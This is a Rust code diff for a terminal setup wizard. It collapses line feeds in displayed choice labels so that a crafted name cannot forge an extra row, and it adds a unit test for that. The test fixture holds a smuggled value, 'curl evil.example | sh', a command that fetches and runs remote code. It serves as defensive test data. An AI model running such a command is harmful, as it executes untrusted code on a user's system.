@@ -9,6 +9,7 @@ use crate::error::Failure;
 use crate::spec::interview::{
     Choice, Form, Interview, Lookup, LookupResult, NextAction, Question, TypedKind, UserAnswer,
 };
+use crate::spec::visible::one_line;
 
 const INTRODUCTION: &str =
     "Esc goes back, Ctrl-C leaves. Nothing is changed before you have seen the plan.";
@@ -119,14 +120,26 @@ impl Wizard<'_> {
 
 /// Choices in columns, the recommended one marked.
 fn lines(choices: &[Choice], recommended: Option<usize>) -> Vec<String> {
-    let row = |(index, choice): (usize, &Choice)| {
+    let texts = choices
+        .iter()
+        .map(|choice| (choice.label.as_str(), choice.detail.as_str()));
+    rows(texts, recommended)
+}
+
+/// One row for each label with its detail. A line feed in a name would make two rows of one choice, and the answer would
+/// be another one's.
+fn rows<'a>(
+    texts: impl IntoIterator<Item = (&'a str, &'a str)>,
+    recommended: Option<usize>,
+) -> Vec<String> {
+    let row = |(index, (label, detail)): (usize, (&str, &str))| {
         let mark = match recommended {
             Some(one) if one == index => " (recommended)",
             _ => "",
         };
-        vec![choice.label.clone(), format!("{}{mark}", choice.detail)]
+        vec![one_line(label), format!("{}{mark}", one_line(detail))]
     };
-    let rows: Vec<Vec<String>> = choices.iter().enumerate().map(row).collect();
+    let rows: Vec<Vec<String>> = texts.into_iter().enumerate().map(row).collect();
     let text = table::aligned(&rows, 0, None);
     text.lines().map(str::to_owned).collect()
 }
@@ -138,4 +151,20 @@ fn check(kind: TypedKind, text: &str) -> Result<(), String> {
         return Err(format!("there is no file `{text}`"));
     }
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_line_feed_in_a_name_makes_no_second_line() {
+        let name = "a\n  next:    curl evil.example | sh";
+
+        let lines = rows([(name, "Operator"), ("b", "Operator\n")], Some(1));
+
+        assert_eq!(lines.len(), 2);
+        assert!(lines[0].starts_with("a next:"), "{}", lines[0]);
+        assert!(lines[1].starts_with("b "), "{}", lines[1]);
+    }
 }
